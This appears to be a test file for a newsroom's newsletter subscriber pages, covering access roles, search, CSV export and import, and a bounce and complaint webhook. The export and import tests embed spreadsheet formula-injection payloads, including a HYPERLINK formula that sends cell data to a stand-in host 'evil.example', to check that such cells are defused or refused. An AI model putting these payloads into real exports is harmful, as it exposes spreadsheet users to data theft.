// The newsroom's subscriber pages, CSV export and import, and the bounce and complaint webhook:
// what an editor and an admin see and may do, and that bad input changes nothing.
import { after, before, describe, it } from 'node:test'
import assert from 'node:assert/strict'
import { testApp } from './helpers.js'
import { postForm, signInAs, type Browser } from './newsroom-helpers.js'
import { makeList, makeScheduledCampaign, makeSubscribers } from './newsletter-factories.js'
import type { NewsletterList } from '../src/newsletter/index.js'

type TestApp = Awaited<ReturnType<typeof testApp>>
const SECRET = 'a-webhook-secret-of-at-least-24-chars'
const BASE = '/newsroom/newsletter/subscribers'

/** A CSV reader of its own (not the app's), so the export is checked against RFC 4180 itself. */
function parseCsvForTest(text: string): string[][] {
  const records: string[][] = []
  for (const match of text.matchAll(/((?:"(?:[^"]|"")*"|[^,"\r\n]*)(?:,(?:"(?:[^"]|"")*"|[^,"\r\n]*))*)\r\n/g)) {
    const cells = [...(match[1] ?? '').matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,"\r\n]*)/g)].map(m => {
      const cell = m[1] ?? ''
      return cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell
    })
    records.push(cells)
  }
  return records
}

describe('newsletter subscribers in the newsroom', () => {
  let t: TestApp
  let admin: Browser
  let editor: Browser
  let author: Browser
  let contributor: Browser
  let weekly: NewsletterList
  let films: NewsletterList

  before(async () => {
    t = await testApp({ newsletterWebhookSecret: SECRET, runJobs: false })
    admin = await signInAs(t, 'admin')
    editor = await signInAs(t, 'editor')
    author = await signInAs(t, 'author')
    contributor = await signInAs(t, 'contributor')
    weekly = await makeList(t.database.db, { slug: 'weekly-digest', name: 'Weekly digest' })
    films = await makeList(t.database.db, { slug: 'premieres', name: 'Film premieres' })
  })
  after(() => t.dispose())

  const db = () => t.database.db
  const get = (browser: Browser | undefined, url: string) =>
    t.app.inject({ url, headers: browser ? { cookie: browser.cookie } : {} })
  const row = (email: string) =>
    db().selectFrom('newsletter_subscribers').selectAll().where('email', '=', email).executeTakeFirst()
  const total = async () =>
    Number(
      (
        await db()
          .selectFrom('newsletter_subscribers')
          .select(eb => eb.fn.countAll<number>().as('n'))
          .executeTakeFirstOrThrow()
      ).n,
    )
  const listsOf = async (email: string) =>
    (
      await db()
        .selectFrom('newsletter_subscriptions as ns')
        .innerJoin('newsletter_subscribers as s', 's.id', 'ns.subscriber_id')
        .select('ns.list_id')
        .where('s.email', '=', email)
        .orderBy('ns.list_id')
        .execute()
    ).map(r => r.list_id)
  const add = async (
    email: string,
    o: { status?: 'pending' | 'confirmed' | 'unsubscribed' | 'bounced'; consent?: string; listId?: number } = {},
  ) => {
    const now = new Date().toISOString()
    const inserted = await db()
      .insertInto('newsletter_subscribers')
      .values({
        email,
        status: o.status ?? 'confirmed',
        source: '/newsletter',
        created_at: now,
        updated_at: now,
        consent: o.consent ?? 'double opt-in',
        confirmed_at: o.status === 'pending' ? null : now,
        unsubscribed_at: o.status === 'unsubscribed' ? now : null,
      })
      .returning('id')
      .executeTakeFirstOrThrow()
    if (o.listId)
      await db()
        .insertInto('newsletter_subscriptions')
        .values({ subscriber_id: inserted.id, list_id: o.listId, created_at: now })
        .execute()
    return inserted.id
  }
  const tableEmails = (html: string) =>
    [...html.matchAll(/<td class="nr-subscribers__email"><a href="[^"]+">(.*?)<\/a>/g)].map(m =>
      m[1]?.replace(/<wbr\/?>/g, ''),
    )

  describe('the list', () => {
    before(async () => {
      await add('per%cent@example.org', { listId: weekly.id })
      await add('perxcent@example.org', { listId: weekly.id })
      await add('under_score@example.org', { status: 'pending', listId: films.id })
      await add('underxscore@example.org', { status: 'pending', listId: films.id })
      await add('gone@example.org', { status: 'unsubscribed' })
    })

    it('an editor sees every subscriber with status, lists, dates and consent, and counts by status', async () => {
      const res = await get(editor, BASE)
      assert.equal(res.statusCode, 200)
      assert.deepEqual(tableEmails(res.body).sort(), [
        'gone@example.org',
        'per%cent@example.org',
        'perxcent@example.org',
        'under_score@example.org',
        'underxscore@example.org',
      ])
      assert.match(res.body, /Weekly digest/)
      assert.match(res.body, /double opt-in/)
      assert.match(res.body, /<strong>2<\/strong> pending/)
      assert.match(res.body, /<strong>1<\/strong> unsubscribed/)
      assert.ok(!res.body.includes(`${BASE}/import`), 'editors are not offered the import')
      assert.ok(!res.body.includes(`${BASE}.csv`), 'editors are not offered the export')
    })

    it('searching for % and _ finds them literally, not as wildcards', async () => {
      assert.deepEqual(tableEmails((await get(editor, `${BASE}?q=${encodeURIComponent('r%c')}`)).body), [
        'per%cent@example.org',
      ])
      assert.deepEqual(tableEmails((await get(editor, `${BASE}?q=${encodeURIComponent('under_s')}`)).body), [
        'under_score@example.org',
      ])
      assert.deepEqual(tableEmails((await get(editor, `${BASE}?q=${encodeURIComponent('UNDER_')}`)).body), [
        'under_score@example.org',
      ])
    })

    it('filters by status and by list', async () => {
      assert.deepEqual(tableEmails((await get(editor, `${BASE}?status=pending`)).body).sort(), [
        'under_score@example.org',
        'underxscore@example.org',
      ])
      assert.deepEqual(tableEmails((await get(editor, `${BASE}?list=${weekly.id}`)).body).sort(), [
        'per%cent@example.org',
        'perxcent@example.org',
      ])
      assert.deepEqual(tableEmails((await get(editor, `${BASE}?list=${weekly.id}&status=pending`)).body), [])
      assert.equal((await get(editor, `${BASE}?status=nonsense`)).statusCode, 400)
    })

    it('shows 50 a page, newest first, with links to the other pages', async () => {
      const list = await makeList(db(), { name: 'Paged' })
      await makeSubscribers(db(), list.id, 120, { prefix: 'paged' })
      const first = await get(editor, `${BASE}?list=${list.id}`)
      assert.equal(tableEmails(first.body).length, 50)
      assert.equal(tableEmails(first.body)[0], 'paged-119@example.org')
      assert.match(first.body, new RegExp(`href="${BASE}\\?list=${list.id}&amp;page=2"`))
      const last = await get(editor, `${BASE}?list=${list.id}&page=3`)
      assert.equal(tableEmails(last.body).length, 20)
      assert.match(last.body, /Page 3 of 3/)
    })

    it('authors and contributors are refused the list and a subscriber’s page', async () => {
      const id = (await row('perxcent@example.org'))?.id
      for (const browser of [author, contributor]) {
        assert.equal((await get(browser, BASE)).statusCode, 403)
        assert.equal((await get(browser, `${BASE}/${id}`)).statusCode, 403)
      }
    })
  })

  describe('a subscriber’s page', () => {
    it('shows their deliveries, and to an admin the actions', async () => {
      const id = await add('reader-with-mail@example.org', { listId: weekly.id })
      const campaign = await makeScheduledCampaign(db(), weekly.id, { subject: 'Issue one: <the river>' })
      await db()
        .insertInto('newsletter_deliveries')
        .values({
          campaign_id: campaign.id,
          subscriber_id: id,
          email: 'reader-with-mail@example.org',
          message_id: `<test-${id}@example.org>`,
          status: 'sent',
          attempts: 1,
          next_attempt_at: new Date().toISOString(),
          sent_at: new Date().toISOString(),
        })
        .execute()
      const asEditor = await get(editor, `${BASE}/${id}`)
      assert.equal(asEditor.statusCode, 200)
      assert.match(asEditor.body, /Issue one: &lt;the river>/)
      assert.match(asEditor.body, /<span class="nr-pill">sent<\/span>/)
      assert.ok(!asEditor.body.includes('/delete'), 'editors get no actions')
      const asAdmin = await get(admin, `${BASE}/${id}`)
      assert.match(asAdmin.body, new RegExp(`action="${BASE}/${id}/delete"`))
      assert.match(asAdmin.body, new RegExp(`action="${BASE}/${id}/mark"`))
      assert.equal((await get(admin, `${BASE}/999999`)).statusCode, 404)
    })

    it('an admin unsubscribes an address: its queued messages are left out and the audit log says who', async () => {
      const id = await add('leaving@example.org', { listId: weekly.id })
      const campaign = await makeScheduledCampaign(db(), weekly.id)
      await db()
        .insertInto('newsletter_deliveries')
        .values({
          campaign_id: campaign.id,
          subscriber_id: id,
          email: 'leaving@example.org',
          message_id: `<q-${id}@example.org>`,
          status: 'queued',
          attempts: 0,
          next_attempt_at: new Date().toISOString(),
        })
        .execute()
      assert.equal((await postForm(t, editor, `${BASE}/${id}/mark`, { as: 'unsubscribed' })).statusCode, 403)
      assert.equal(
        (await postForm(t, admin, `${BASE}/${id}/mark`, { as: 'unsubscribed' }, { csrf: false })).statusCode,
        403,
      )
      assert.equal((await row('leaving@example.org'))?.status, 'confirmed')
      const res = await postForm(t, admin, `${BASE}/${id}/mark`, { as: 'unsubscribed', reason: 'asked by phone' })
      assert.equal(res.statusCode, 303)
      const after = await row('leaving@example.org')
      assert.equal(after?.status, 'unsubscribed')
      assert.ok(after?.unsubscribed_at)
      assert.match(after?.status_reason ?? '', /asked by phone/)
      const delivery = await db()
        .selectFrom('newsletter_deliveries')
        .select('status')
        .where('subscriber_id', '=', id)
        .executeTakeFirstOrThrow()
      assert.equal(delivery.status, 'skipped')
      const audit = await db()
        .selectFrom('audit_log')
        .selectAll()
        .where('action', '=', 'subscriber-unsubscribed')
        .where('subject', '=', `subscriber:${id}`)
        .executeTakeFirst()
      assert.ok(audit)
      assert.equal((await postForm(t, admin, `${BASE}/${id}/mark`, { as: 'deleted' })).statusCode, 400)
    })

    it('erasing removes the address, its lists and deliveries, and the audit log keeps no address', async () => {
      const id = await add('erase-me@example.org', { listId: weekly.id })
      const campaign = await makeScheduledCampaign(db(), weekly.id)
      await db()
        .insertInto('newsletter_deliveries')
        .values({
          campaign_id: campaign.id,
          subscriber_id: id,
          email: 'erase-me@example.org',
          message_id: `<e-${id}@example.org>`,
          status: 'sent',
          attempts: 1,
          next_attempt_at: new Date().toISOString(),
        })
        .execute()
      assert.equal((await postForm(t, editor, `${BASE}/${id}/delete`, { confirm: '1' })).statusCode, 403)
      const unconfirmed = await postForm(t, admin, `${BASE}/${id}/delete`, {})
      assert.equal(unconfirmed.statusCode, 400)
      assert.match(unconfirmed.body, /Tick the box/)
      assert.ok(await row('erase-me@example.org'))
      const res = await postForm(t, admin, `${BASE}/${id}/delete`, { confirm: '1' })
      assert.equal(res.statusCode, 303)
      assert.equal(await row('erase-me@example.org'), undefined)
      assert.equal(
        (await db().selectFrom('newsletter_subscriptions').select('list_id').where('subscriber_id', '=', id).execute())
          .length,
        0,
      )
      assert.equal(
        (await db().selectFrom('newsletter_deliveries').select('id').where('subscriber_id', '=', id).execute()).length,
        0,
      )
      const audit = await db()
        .selectFrom('audit_log')
        .selectAll()
        .where('action', '=', 'subscriber-erased')
        .where('subject', '=', `subscriber:${id}`)
        .executeTakeFirstOrThrow()
      assert.ok(!JSON.stringify(audit).includes('erase-me'))
      assert.equal((await postForm(t, admin, `${BASE}/${id}/delete`, { confirm: '1' })).statusCode, 404)
    })
  })

  describe('the CSV export', () => {
    it('streams every row with its lists, defusing cells that would run as formulas, as an uncached attachment', async () => {
      await add('formula@example.org', { consent: '=HYPERLINK("http://evil.example","click")', listId: films.id })
      await add('-minus@example.org', { consent: '+1 said yes', listId: weekly.id })
      const res = await get(admin, `${BASE}.csv`)
      assert.equal(res.statusCode, 200)
      assert.match(String(res.headers['content-type']), /^text\/csv/)
      assert.match(
        String(res.headers['content-disposition']),
        /^attachment; filename="subscribers-\d{4}-\d{2}-\d{2}\.csv"$/,
      )
      assert.equal(res.headers['cache-control'], 'no-store')
      const records = parseCsvForTest(res.body)
      assert.deepEqual(records[0], [
        'email',
        'status',
        'lists',
        'created_at',
        'confirmed_at',
        'unsubscribed_at',
        'consent',
        'source',
      ])
      assert.equal(records.length - 1, await total())
      const formula = records.find(r => r[0] === 'formula@example.org')
      assert.equal(formula?.[6], '\'=HYPERLINK("http://evil.example","click")')
      assert.equal(formula?.[2], 'premieres')
      const minus = records.find(r => r[0] === "'-minus@example.org")
      assert.equal(minus?.[6], "'+1 said yes")
      assert.ok(!/(^|,)[=+\-@]/m.test(res.body), 'no cell starts with a formula character')
      assert.ok(
        await db().selectFrom('audit_log').select('id').where('action', '=', 'subscribers-exported').executeTakeFirst(),
      )
    })

    it('pages through thousands of rows by id and keeps the filter', async () => {
      const list = await makeList(db(), { slug: 'many' })
      await makeSubscribers(db(), list.id, 2345, { prefix: 'many' })
      const records = parseCsvForTest((await get(admin, `${BASE}.csv?list=${list.id}`)).body)
      assert.equal(records.length, 2346)
      assert.equal(new Set(records.map(r => r[0])).size, 2346)
      assert.ok(records.slice(1).every(r => r[2] === 'many'))
    })

    it('only admins may export', async () => {
      assert.equal((await get(editor, `${BASE}.csv`)).statusCode, 403)
      assert.equal((await get(undefined, `${BASE}.csv`)).statusCode, 303)
    })
  })

  describe('the CSV import', () => {
    const importCsv = (browser: Browser, fields: Record<string, string | string[]>) =>
      postForm(t, browser, `${BASE}/import`, fields)

    it('without a consent assertion, stores new addresses as pending on the chosen lists', async () => {
      const form = await get(admin, `${BASE}/import`)
      assert.equal(form.statusCode, 200)
      assert.match(form.body, /name="csv"/)
      const res = await importCsv(admin, {
        csv: 'Name,Email,City\r\nAda,Ada@Example.org,London\r\n"Lovelace, B",b.lovelace@example.org,Paris\r\n',
        list: [String(weekly.id), String(films.id)],
      })
      assert.equal(res.statusCode, 200, res.body.slice(0, 500))
      assert.match(res.body, /The import is done/)
      assert.match(res.body, /2 added/)
      const ada = await row('ada@example.org')
      assert.equal(ada?.status, 'pending')
      assert.equal(ada?.source, 'import')
      assert.equal(ada?.confirmed_at, null)
      assert.deepEqual(
        await listsOf('ada@example.org'),
        [weekly.id, films.id].sort((a, b) => a - b),
      )
      assert.ok(
        await db().selectFrom('audit_log').select('id').where('action', '=', 'subscribers-imported').executeTakeFirst(),
      )
    })

    it('with the assertion and a statement, stores them as confirmed with the consent recorded', async () => {
      const res = await importCsv(admin, {
        csv: 'consented@example.org\nalso-consented@example.org\nada@example.org\n',
        list: String(films.id),
        consent: '1',
        statement: 'Old site form, 2021–2024',
      })
      assert.equal(res.statusCode, 200, res.body.slice(0, 500))
      const stored = await row('consented@example.org')
      assert.equal(stored?.status, 'confirmed')
      assert.ok(stored?.confirmed_at)
      assert.equal(
        stored?.consent,
        `import by ${admin.email} on ${new Date().toISOString().slice(0, 10)}: Old site form, 2021–2024`,
      )
      // Already here (pending from the last import): kept, and confirmed on the assertion.
      assert.equal((await row('ada@example.org'))?.status, 'confirmed')
      assert.match(res.body, /2 added/)
      assert.match(res.body, /1 already here/)
    })

    it('asserting consent needs the statement of where and when; nothing is stored without it', async () => {
      const before = await total()
      const res = await importCsv(admin, {
        csv: 'email\nno-statement@example.org\n',
        list: String(weekly.id),
        consent: '1',
        statement: '  ',
      })
      assert.equal(res.statusCode, 400)
      assert.match(res.body, /Say where and when these people gave their consent/)
      assert.equal(await total(), before)
    })

    it('a statement without the box ticked is questioned rather than silently dropped', async () => {
      const res = await importCsv(admin, {
        csv: 'email\nunticked@example.org\n',
        list: String(weekly.id),
        statement: 'They said yes',
      })
      assert.equal(res.statusCode, 400)
      assert.match(res.body, /did not tick the box/)
      assert.equal(await row('unticked@example.org'), undefined)
    })

    it('one bad line stores nothing and every bad line is named by its number and reason', async () => {
      const before = await total()
      const csv = [
        'email,name',
        'good-one@example.org,A',
        'not-an-email,B',
        '"=HYPERLINK(""http://evil.example?x=""&A1,""click"")",C',
        'good-two@example.org,D',
        ',E',
        '+cmd@example.org,F',
        '"unclosed@example.org,G',
      ].join('\r\n')
      const res = await importCsv(admin, { csv, list: String(weekly.id) })
      assert.equal(res.statusCode, 400)
      assert.match(res.body, /nothing was imported/)
      assert.match(res.body, /<strong>Line 3:<\/strong> “not-an-email” is not an email address/)
      assert.match(res.body, /<strong>Line 4:<\/strong> .*starts with “=”, which spreadsheets run as a formula/)
      assert.match(res.body, /<strong>Line 6:<\/strong> there is no email address/)
      assert.match(res.body, /<strong>Line 7:<\/strong> .*starts with “\+”/)
      assert.match(res.body, /<strong>Line 8:<\/strong> not valid CSV: a field opens with a double quote/)
      assert.ok(!res.body.includes('Line 2:') && !res.body.includes('Line 5:'))
      assert.equal(await total(), before)
      assert.equal(await row('good-one@example.org'), undefined)
    })

    it('a file without an email column, or with no list chosen, is refused with a reason', async () => {
      const noColumn = await importCsv(admin, { csv: 'name,city\nAda,London\n', list: String(weekly.id) })
      assert.equal(noColumn.statusCode, 400)
      assert.match(noColumn.body, /one of them “email”/)
      const noList = await importCsv(admin, { csv: 'email\nlistless@example.org\n' })
      assert.equal(noList.statusCode, 400)
      assert.match(noList.body, /Choose at least one list/)
      assert.equal(await row('listless@example.org'), undefined)
      const goneList = await importCsv(admin, { csv: 'email\nlistless@example.org\n', list: '999999' })
      assert.equal(goneList.statusCode, 400)
      assert.equal(await row('listless@example.org'), undefined)
    })

    it('an oversized file is refused with the limits, and nothing is stored', async () => {
      const before = await total()
      const line = `${'x'.repeat(40)}@example.org\r\n`
      const big = `email\r\n${line.repeat(Math.ceil((5 * 1024 * 1024) / line.length) + 10)}`
      const res = await importCsv(admin, { csv: big, list: String(weekly.id) })
      assert.equal(res.statusCode, 413)
      assert.match(res.body, /at most 5\.0 MB/)
      assert.equal(await total(), before)
      const rows = `email\n${Array.from({ length: 50_001 }, (_, i) => `r${i}@ex.org`).join('\n')}`
      const many = await importCsv(admin, { csv: rows, list: String(weekly.id) })
      assert.equal(many.statusCode, 413)
      assert.match(many.body, /at most 50,000/)
      assert.equal(await total(), before)
    })

    it('a body over the limit is refused before it is read, with the same advice', async () => {
      const res = await t.app.inject({
        method: 'POST',
        url: `${BASE}/import`,
        payload: `csv=${'a'.repeat(17 * 1024 * 1024)}`,
        headers: { 'content-type': 'application/x-www-form-urlencoded', cookie: admin.cookie },
      })
      assert.equal(res.statusCode, 413)
      assert.match(res.body, /The pasted CSV is too large/)
    })

    it('never brings back an address that unsubscribed or bounced, and never duplicates one', async () => {
      await add('left-before@example.org', { status: 'unsubscribed' })
      await add('bounced-before@example.org', { status: 'bounced' })
      await add('already@example.org', { status: 'confirmed', listId: weekly.id })
      const res = await importCsv(admin, {
        csv: 'email\nleft-before@example.org\nbounced-before@example.org\nalready@example.org\nALREADY@example.org\nbrand-new@example.org\n',
        list: String(films.id),
        consent: '1',
        statement: 'Paper forms at the 2024 festival',
      })
      assert.equal(res.statusCode, 200, res.body.slice(0, 500))
      assert.equal((await row('left-before@example.org'))?.status, 'unsubscribed')
      assert.equal((await row('bounced-before@example.org'))?.status, 'bounced')
      assert.deepEqual(await listsOf('left-before@example.org'), [])
      assert.deepEqual(
        await listsOf('already@example.org'),
        [weekly.id, films.id].sort((a, b) => a - b),
      )
      assert.equal(
        (
          await db()
            .selectFrom('newsletter_subscribers')
            .select('id')
            .where('email', '=', 'already@example.org')
            .execute()
        ).length,
        1,
      )
      assert.match(res.body, /1 added/)
      assert.match(res.body, /1 already here/)
      assert.match(res.body, /2 skipped because they unsubscribed or bounced/)
      assert.match(res.body, /Line 2: left-before@example.org \(unsubscribed\)/)
      assert.match(res.body, /1 lines repeated an address/)
    })

    it('only admins may import', async () => {
      assert.equal((await get(editor, `${BASE}/import`)).statusCode, 403)
      assert.equal(
        (await importCsv(editor, { csv: 'email\nsneaky@example.org\n', list: String(weekly.id) })).statusCode,
        403,
      )
      assert.equal(
        (
          await postForm(
            t,
            admin,
            `${BASE}/import`,
            { csv: 'email\nsneaky@example.org\n', list: String(weekly.id) },
            { csrf: false },
          )
        ).statusCode,
        403,
      )
      assert.equal(await row('sneaky@example.org'), undefined)
    })
  })

  describe('the bounce and complaint webhook', () => {
    const send = (body: unknown, o: { secret?: string | null; origin?: string } = {}) =>
      t.app.inject({
        method: 'POST',
        url: '/api/newsletter/events',
        payload: typeof body === 'string' ? body : JSON.stringify(body),
        headers: {
          'content-type': 'application/json',
          ...(o.secret === null ? {} : { authorization: `Bearer ${o.secret ?? SECRET}` }),
          ...(o.origin ? { origin: o.origin } : {}),
        },
      })

    it('answers 404 when no secret is configured', async () => {
      const plain = await testApp()
      try {
        const res = await plain.app.inject({
          method: 'POST',
          url: '/api/newsletter/events',
          payload: '{"events":[]}',
          headers: { 'content-type': 'application/json', authorization: `Bearer ${SECRET}` },
        })
        assert.equal(res.statusCode, 404)
      } finally {
        await plain.dispose()
      }
    })

    it('refuses a missing or wrong secret with 401 before reading the body', async () => {
      await add('secret-check@example.org')
      for (const secret of [null, 'wrong', `${SECRET}x`, '']) {
        const res = await send({ events: [{ type: 'complaint', email: 'secret-check@example.org' }] }, { secret })
        assert.equal(res.statusCode, 401, String(secret))
        assert.equal(res.json().error.code, 'unauthorized')
      }
      assert.equal((await send('{not json', { secret: 'wrong' })).statusCode, 401)
      assert.equal((await row('secret-check@example.org'))?.status, 'confirmed')
    })

    it('a permanent bounce marks the address bounced and leaves out its queued messages; unknown addresses are counted', async () => {
      const id = await add('hard-bounce@example.org', { listId: weekly.id })
      const campaign = await makeScheduledCampaign(db(), weekly.id)
      await db()
        .insertInto('newsletter_deliveries')
        .values({
          campaign_id: campaign.id,
          subscriber_id: id,
          email: 'hard-bounce@example.org',
          message_id: `<b-${id}@example.org>`,
          status: 'queued',
          attempts: 0,
          next_attempt_at: new Date().toISOString(),
        })
        .execute()
      const res = await send(
        {
          events: [
            { type: 'bounce', email: 'Hard-Bounce@example.org', reason: '550 5.1.1 No such user', permanent: true },
            { type: 'bounce', email: 'nobody-here@example.org' },
            { type: 'bounce', email: 'not an address' },
          ],
        },
        { origin: 'https://mail-provider.example' },
      )
      assert.equal(res.statusCode, 200, res.body)
      assert.deepEqual(res.json(), { processed: 1, ignored: 2 })
      const stored = await row('hard-bounce@example.org')
      assert.equal(stored?.status, 'bounced')
      assert.equal(stored?.status_reason, 'bounce: 550 5.1.1 No such user')
      assert.equal(
        (
          await db()
            .selectFrom('newsletter_deliveries')
            .select('status')
            .where('subscriber_id', '=', id)
            .executeTakeFirstOrThrow()
        ).status,
        'skipped',
      )
    })

    it('a temporary bounce is only noted; the address stays subscribed', async () => {
      await add('full-box@example.org')
      const res = await send({
        events: [{ type: 'bounce', email: 'full-box@example.org', reason: '452 Mailbox full', permanent: false }],
      })
      assert.deepEqual(res.json(), { processed: 1, ignored: 0 })
      const stored = await row('full-box@example.org')
      assert.equal(stored?.status, 'confirmed')
      assert.equal(stored?.status_reason, 'temporary bounce: 452 Mailbox full')
    })

    it('a complaint unsubscribes the address, and the same report twice changes nothing more', async () => {
      await add('complainer@example.org')
      const report = {
        events: [{ type: 'complaint', email: 'complainer@example.org', reason: 'abuse report\r\nfrom ISP' }],
      }
      assert.deepEqual((await send(report)).json(), { processed: 1, ignored: 0 })
      const first = await row('complainer@example.org')
      assert.equal(first?.status, 'unsubscribed')
      assert.equal(first?.status_reason, 'complaint: abuse report from ISP')
      assert.ok(first?.unsubscribed_at)
      assert.deepEqual((await send(report)).json(), { processed: 1, ignored: 0 })
      const second = await row('complainer@example.org')
      assert.equal(second?.status, 'unsubscribed')
      assert.equal(second?.unsubscribed_at, first?.unsubscribed_at)
      assert.equal(second?.status_reason, first?.status_reason)
    })

    it('bad JSON, a wrong shape and too many events are 400s that change nothing', async () => {
      await add('shape@example.org')
      const bad = await send('{"events": [')
      assert.equal(bad.statusCode, 400)
      assert.match(bad.json().error.message, /not valid JSON/)
      assert.equal((await send({ events: [{ type: 'delivered', email: 'shape@example.org' }] })).statusCode, 400)
      assert.equal((await send({ evts: [] })).statusCode, 400)
      const many = await send({
        events: Array.from({ length: 1001 }, () => ({ type: 'complaint', email: 'shape@example.org' })),
      })
      assert.equal(many.statusCode, 400)
      assert.match(many.json().error.message, /1000/)
      assert.equal((await row('shape@example.org'))?.status, 'confirmed')
    })
  })
})
